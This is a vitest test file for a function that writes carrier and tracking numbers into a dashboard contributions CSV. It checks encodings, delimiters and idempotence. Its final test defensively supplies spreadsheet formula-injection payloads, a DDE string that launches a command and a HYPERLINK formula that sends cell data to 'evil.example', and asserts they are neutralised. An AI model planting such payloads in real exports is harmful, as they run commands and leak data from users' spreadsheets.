import { describe, expect, it } from 'vitest'
import { decodeCsv } from '../../../../src/main/core/floor/csv-bytes'
import { fillDashboardFile } from '../../../../src/main/core/floor/dashboard-fill'
import { detectDelimiter, parseCsv } from '../../../../src/shared/csv/csv-text'
import { DASHBOARD_HEADER, ITEM_GROUP } from '../../../../src/shared/dashboard/dashboard-columns'
import type { CsvDelimiter } from '../../../../src/shared/csv/csv-text'
import { blankFloorState } from '../../../../src/shared/floor/order-state'
import type { OrderFloorState } from '../../../../src/shared/floor/order-state'
import { makeContribution } from '../../fixtures/contributions'

// A dashboard contributions export written from the columns in ../shared/api-notes.md.
const HEADER = [...DASHBOARD_HEADER, ...ITEM_GROUP, ...ITEM_GROUP]
const CARRIER = HEADER.indexOf('Carrier')
const TRACKING = HEADER.indexOf('Tracking Number')

const rows = [makeContribution(1), makeContribution(2), makeContribution(3), makeContribution(4)]

function quote(value: string, delimiter: string): string {
  return /["\r\n]/.test(value) || value.includes(delimiter)
    ? `"${value.replace(/"/g, '""')}"`
    : value
}

function dashboardText(delimiter: CsvDelimiter, lineBreak: string, extraRows: string[][] = []) {
  const body = rows.map((row, i) => {
    const cells = HEADER.map(() => '')
    cells[0] = String(row.order.sequence_number)
    cells[1] = String(row.id)
    cells[7] = i === 0 ? 'Brown, "Mary"' : `Backer ${i}`
    cells[17] = i === 1 ? '12 Main St\nBuilding 4' : `${i} Long Street`
    cells[9] = i === 2 ? '1.234,50' : '25.00'
    // The second row came with a tracking number from an earlier round trip.
    if (i === 1) cells[TRACKING] = 'OLD-9'
    cells[25] = 'Mug'
    cells[26] = '0012345'
    return cells
  })
  return [HEADER, ...body, ...extraRows]
    .map((cells) => cells.map((value) => quote(value, delimiter)).join(delimiter))
    .join(lineBreak)
    .concat(lineBreak)
}

const states = new Map<number, OrderFloorState>([
  [
    rows[0]!.order.id,
    {
      ...blankFloorState(rows[0]!.order.id),
      carrier: 'usps',
      trackingNumbers: ['9400111899223856728493'],
    },
  ],
  [
    rows[1]!.order.id,
    { ...blankFloorState(rows[1]!.order.id), carrier: 'UPS', trackingNumbers: ['1Z1', '1Z2'] },
  ],
  [rows[2]!.order.id, { ...blankFloorState(rows[2]!.order.id), packedAt: '2026-11-20T10:00:00Z' }],
])

/** The output with the input's own Carrier and Tracking cells put back: must be the input. */
function revertFilled(input: string, output: string, delimiter: CsvDelimiter): string {
  const before = parseCsv(input, delimiter)
  const after = parseCsv(output, delimiter)
  expect(after.length).toBe(before.length)
  let text = output
  // From the end, so earlier offsets stay valid.
  for (let r = after.length - 1; r >= 0; r--) {
    for (const column of [TRACKING, CARRIER]) {
      const was = before[r]!.fields[column]!
      const now = after[r]!.fields[column]!
      text = text.slice(0, now.start) + input.slice(was.start, was.end) + text.slice(now.end)
    }
  }
  return text
}

describe('filling the dashboard file: only Carrier and Tracking Number change', () => {
  it('UTF-8 with a byte order mark, CRLF, quoted commas, quotes and line breaks', () => {
    const input = dashboardText(',', '\r\n')
    const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(input, 'utf8')])
    const result = fillDashboardFile(bytes, 'contributions.csv', rows, states)

    expect(result.bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
    const output = decodeCsv(result.bytes).text
    expect(revertFilled(input, output, ',')).toBe(input)
    const filled = parseCsv(output, ',')
    expect(filled[1]!.fields[CARRIER]!.value).toBe('USPS')
    // Text, exactly as the carrier prints it: no quotes a spreadsheet would not need.
    expect(output).toContain(',USPS,9400111899223856728493,')
    expect(filled[2]!.fields[TRACKING]!.value).toBe('1Z1, 1Z2')
    expect(result).toMatchObject({
      rows: 4,
      matchedBy: 'Pledge ID',
      filled: 2,
      replaced: 1,
      unchanged: 0,
      noTracking: 2,
      unmatched: [],
    })
  })

  it('UTF-16 with tabs, as a spreadsheet saves "Unicode text"; LF kept', () => {
    const input = dashboardText('\t', '\n')
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(input, 'utf16le')])
    const result = fillDashboardFile(bytes, 'contributions.txt', rows, states)

    expect(result.bytes.subarray(0, 2)).toEqual(Buffer.from([0xff, 0xfe]))
    const output = decodeCsv(result.bytes).text
    expect(detectDelimiter(output)).toBe('\t')
    expect(revertFilled(input, output, '\t')).toBe(input)
    expect(result.filled).toBe(2)
  })

  it('semicolons; a second fill of the filled file changes nothing; unknown rows are named', () => {
    const stranger = HEADER.map(() => '')
    stranger[1] = '99999999'
    const input = dashboardText(';', '\r\n', [stranger])
    const first = fillDashboardFile(Buffer.from(input, 'utf8'), 'c.csv', rows, states)
    const second = fillDashboardFile(first.bytes, 'c.csv', rows, states)

    expect(first.unmatched).toEqual([{ line: 7, key: '99999999' }])
    expect(second.bytes.equals(first.bytes)).toBe(true)
    expect(second).toMatchObject({ filled: 0, unchanged: 2 })
  })

  it('a file that is not the dashboard export names the missing columns', () => {
    expect(() =>
      fillDashboardFile(
        Buffer.from('Name,Email,Carrier\nAda,a@example.test,USPS\n'),
        'people.csv',
        rows,
        states,
      ),
    ).toThrow(
      /people\.csv, line 1: this is not the dashboard's contributions file: it has no Pledge ID \(or Order No\.\), Tracking Number column\. Download/,
    )
  })
})

describe('filling the dashboard file with numbers from other files: formulas neutralised', () => {
  const hostile = new Map<number, OrderFloorState>([
    [
      rows[0]!.order.id,
      {
        ...blankFloorState(rows[0]!.order.id),
        carrier: '@SUM(1+1)*cmd|" /C calc"!A0',
        trackingNumbers: ['=HYPERLINK("http://evil.example/?"&A1,"Track")'],
      },
    ],
    [rows[1]!.order.id, { ...blankFloorState(rows[1]!.order.id), trackingNumbers: ['+1234'] }],
    [
      rows[3]!.order.id,
      { ...blankFloorState(rows[3]!.order.id), carrier: 'UPS', trackingNumbers: ['-A1', '1Z9'] },
    ],
  ])

  it('prefixes a written cell that starts like a formula; signed digits hold nothing to run', () => {
    const input = dashboardText(',', '\r\n')
    const result = fillDashboardFile(Buffer.from(input, 'utf8'), 'c.csv', rows, hostile)
    const output = decodeCsv(result.bytes).text
    const filled = parseCsv(output, ',')

    expect(filled[1]!.fields[CARRIER]!.value).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`)
    expect(filled[1]!.fields[TRACKING]!.value).toBe(
      `'=HYPERLINK("http://evil.example/?"&A1,"Track")`,
    )
    expect(filled[2]!.fields[TRACKING]!.value).toBe('+1234')
    // A cell reference is no number: prefixed, and the second parcel stays beside it.
    expect(filled[4]!.fields[TRACKING]!.value).toBe(`'-A1, 1Z9`)
    // Every other cell byte for byte, names with quotes and line breaks included.
    expect(revertFilled(input, output, ',')).toBe(input)
    // Neutralised once: a second fill of the filled file finds nothing to change.
    const again = fillDashboardFile(result.bytes, 'c.csv', rows, hostile)
    expect(again.bytes.equals(result.bytes)).toBe(true)
    expect(again).toMatchObject({ filled: 0, unchanged: 3 })
  })
})
